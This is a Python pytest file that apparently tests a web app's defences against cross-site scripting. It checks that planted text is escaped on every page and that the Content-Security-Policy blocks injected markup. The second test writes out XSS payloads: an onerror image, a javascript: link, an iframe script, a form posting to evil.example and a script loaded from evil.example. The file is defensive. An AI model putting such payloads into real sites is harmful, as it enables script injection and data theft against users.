"""Attacks in every text, looked at in a real Chromium with the policy of the pages turned off.

Without the Content-Security-Policy whatever is not escaped does run, so what this proves is that
everything is; that the policy is on every page is proved by test_every_page.
"""

from __future__ import annotations

import json
import re
import shutil
import tempfile
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.e2e.page_addresses import OTHERS, Sample, route_addresses
from tests.e2e.test_every_page import see_all_of
from tests.security.attack_world import evil
from tests.servers import LiveStudio

pytestmark = [pytest.mark.browser, pytest.mark.slow]
PLANT = "import django; django.setup(); from tests.security import attack_world as a; a.main()"
NOTE = "window.ranAt = []; window.ran = (place) => window.ranAt.push(place);"
# What only an attack would have made: elements and attributes of its own, links that run.
MADE = """(page) => {
    const odd = [...page.querySelectorAll(
        'img[src="x"], svg[onload], iframe, object, embed, [onerror], [onload], [onmouseover]')];
    const links = [...page.querySelectorAll('[href], [action], [formaction]')].filter((one) =>
        /^\\s*(javascript|data|vbscript)\\s*:/i.test(one.getAttribute('href') ||
            one.getAttribute('action') || one.getAttribute('formaction')));
    const scripts = [...page.querySelectorAll('script')].filter((one) =>
        !one.src && /\\bran\\(/.test(one.text) && one.type !== 'application/json');
    return [...window.ranAt.map((n) => 'ran at ' + n),
        ...[...odd, ...links, ...scripts].map((one) => one.outerHTML.slice(0, 200))];
}"""
# Routes whose pages have something that a script writes; all others are as they were sent.
DRAWN = ("dashboard", "sweep", "run", "shared", "compare", "search", "model")
# Which of some addresses are pages, and what is odd in each as it was sent.
SENT = f"""async (addresses) => {{
    const made = {MADE};
    const found = {{}};
    const look = async (address) => {{
        const answer = await fetch(address, {{ redirect: 'manual' }});
        const kind = answer.headers.get('content-type') || '';
        if (answer.status === 405 || !kind.startsWith('text/html')) return;
        const page = new DOMParser().parseFromString(await answer.text(), 'text/html');
        found[address] = made(page);
    }};
    const left = [...addresses];
    const go = async () => {{ while (left.length) await look(left.shift()); }};
    await Promise.all([go(), go()]);
    return found;
}}"""


@pytest.fixture(scope="module")
def studio():
    home = Path(tempfile.mkdtemp(prefix="studio-attack-"))
    live = LiveStudio(home, workers=1)
    live.start()
    yield live
    if live.process is not None:
        live.stop()
    shutil.rmtree(home, ignore_errors=True)


@pytest.fixture(scope="module")
def planted(studio):
    return json.loads(studio.run_python(PLANT).splitlines()[-1])


def reflected(planted):
    """What is asked for is shown again: searches, filters, names that are not there."""
    text = quote(evil(90), safe="")
    sweep = planted["sweep_id"]
    return [
        *(f"/{page}/?q={text}" for page in ("sweeps", "models", "search")),
        f"/sweeps/?tag={text}&owner={text}&sort={text}",
        f"/search/first/?q={text}",
        f"/sweeps/{sweep}/runs/?filter={text}&sort={text}&columns={text}",
        f"/sweeps/{sweep}/runs/?filter=tag%3A{text}",
        f"/sweeps/{sweep}/charts/?metric={text}&x={text}",
        f"/sweeps/{sweep}/logs/?q={text}&kind={text}",
        f"/compare/?sweeps={text}",
        f"/compare/?sweeps={planted['ids']}",
        f"/sweeps/new/?from={text}",
        f"/sweeps/new/?from={sweep}",
        f"/sign-in/?next={text}",
        f"/no/{text}/",
        f"/runs/{text}/",
        f"/runs/{planted['failed']}/",
        f"/sweeps/{sweep}/runs/?view={text}",
    ]


def admin_pages(context):
    """Return every list of the administration and a row of each."""
    lists = sorted(
        set(re.findall(r'href="(/admin/\w+/\w+/)"', context.request.get("/admin/").text()))
    )
    rows = [
        re.search(rf'href="({page}[^"/?]+/change/)', context.request.get(page).text())
        for page in lists
    ]
    return [*lists, *(found[1] for found in rows if found)]


def test_no_text_becomes_a_script_on_any_page(chromium, studio, planted, tmp_path):
    """Every page as it is sent; those of the product also as their scripts draw them."""
    context = chromium.new_context(
        base_url=studio.url, bypass_csp=True, viewport={"width": 1440, "height": 900}
    )
    context.add_init_script(NOTE)
    context.request.get(f"/sign-in/{planted['sign_in']}/", max_redirects=0)
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    sweep = f"/sweeps/{planted['sweep_id']}/"
    page.goto(sweep)
    # As text it is all there.
    shown = page.locator("body").inner_text()
    for place in (10, 12, 25):
        assert evil(place) in shown

    routes = route_addresses(Sample(planted, {}))
    known = [*routes.values(), *OTHERS, *reflected(planted), *admin_pages(context)]
    sent = page.evaluate(SENT, list(dict.fromkeys(known)))
    faults = {address: found for address, found in sent.items() if found}
    assert len(sent) > 100
    capsule = tmp_path / "capsule.html"
    capsule.write_bytes(context.request.get(f"{sweep}capsule").body())
    drawn = [routes[name] for name in routes if name.startswith(DRAWN) and routes[name] in sent]
    for address in [*drawn, f"/compare/?sweeps={planted['ids']}", capsule.as_uri()]:
        page.goto(address)
        if page.locator(".chart").count():
            see_all_of(page)
        if found := page.evaluate(f"({MADE})(document)"):
            faults[address] = found
    context.close()
    assert not faults, json.dumps(faults, indent=1)
    assert not dialogs


def test_the_policy_alone_stops_what_would_be_written_into_a_page(chromium, studio, planted):
    """The second wall: with it, even markup that was put into a page runs nothing."""
    context = chromium.new_context(base_url=studio.url)
    context.add_init_script(NOTE)
    context.request.get(studio.sign_in_link(), max_redirects=0)
    page = context.new_page()
    page.goto("/sweeps/")

    refused = page.evaluate(
        """async () => {
            const refused = [];
            document.addEventListener('securitypolicyviolation',
                (event) => refused.push(event.effectiveDirective));
            const box = document.createElement('div');
            box.innerHTML = '<img src=x onerror=ran(1)><a id=link href="javascript:ran(2)">x</a>' +
                '<iframe srcdoc="<script>parent.ran(3)</' + 'script>"></iframe>' +
                '<form id=away action="https://evil.example/"><input name=a></form>';
            document.body.append(box);
            const script = document.createElement('script');
            script.textContent = 'ran(4)';
            document.body.append(script);
            const foreign = document.createElement('script');
            foreign.src = 'https://evil.example/x.js';
            document.body.append(foreign);
            document.getElementById('link').click();
            document.getElementById('away').requestSubmit();
            while (refused.length < 5) await new Promise((done) => setTimeout(done, 20));
            return [...new Set(refused)].sort();
        }"""
    )

    assert page.evaluate("window.ranAt") == []
    assert {"script-src-elem", "script-src-attr", "form-action"} <= set(refused)
    context.close()
